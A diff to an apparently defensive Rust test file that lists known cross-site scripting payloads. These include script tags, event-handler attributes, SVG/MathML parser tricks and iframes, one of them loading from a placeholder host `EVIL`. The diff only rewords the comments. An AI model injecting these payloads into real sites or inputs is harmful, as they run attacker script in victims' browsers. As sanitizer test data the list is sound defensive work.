@@ -1,9 +1,9 @@
-//! What people have written into pages to make them do something.
+//! Known injection payloads.
 //!
-//! Each calls `ran()`, loads something from `EVIL`, or restyles the page, in a page that takes it for more than text.
-//! `EVIL` stands for the address of a server that counts who comes.
+//! In an unprotected page, each calls `ran()`, loads something from `EVIL`, or restyles the page. `EVIL` is replaced by
+//! the address of a server that counts requests.
 
-/// All of them; none is longer than a name may be, so that each can stand everywhere.
+/// All payloads; none exceeds the length of a name, so that each can be used everywhere.
 pub(crate) const PAYLOADS: &[&str] = &[
     // Scripts.
     "<script>ran()</script>",
@@ -41,7 +41,7 @@ pub(crate) const PAYLOADS: &[&str] = &[
     "<marquee onstart=ran()>",
     "<a style=animation-name:pulse onanimationstart=ran()>",
     "<div onpointerenter=ran() style=position:fixed;inset:0>x</div>",
-    // SVG and MathML, where other rules of reading hold.
+    // SVG and MathML, with other parsing rules.
     "<svg onload=ran()>",
     "<svg><script>ran()</script></svg>",
     "<svg><animate onbegin=ran() attributeName=x dur=1s>",
@@ -50,7 +50,7 @@ pub(crate) const PAYLOADS: &[&str] = &[
     "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
     "<math><mi xlink:href=javascript:ran()>x</mi></math>",
     "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style>",
-    // Frames, and what is like them.
+    // Frames and similar elements.
     "<iframe srcdoc=\"<script>top.ran()</script>\"></iframe>",
     "<iframe src=javascript:top.ran()></iframe>",
     "<iframe src=EVIL/frame></iframe>",
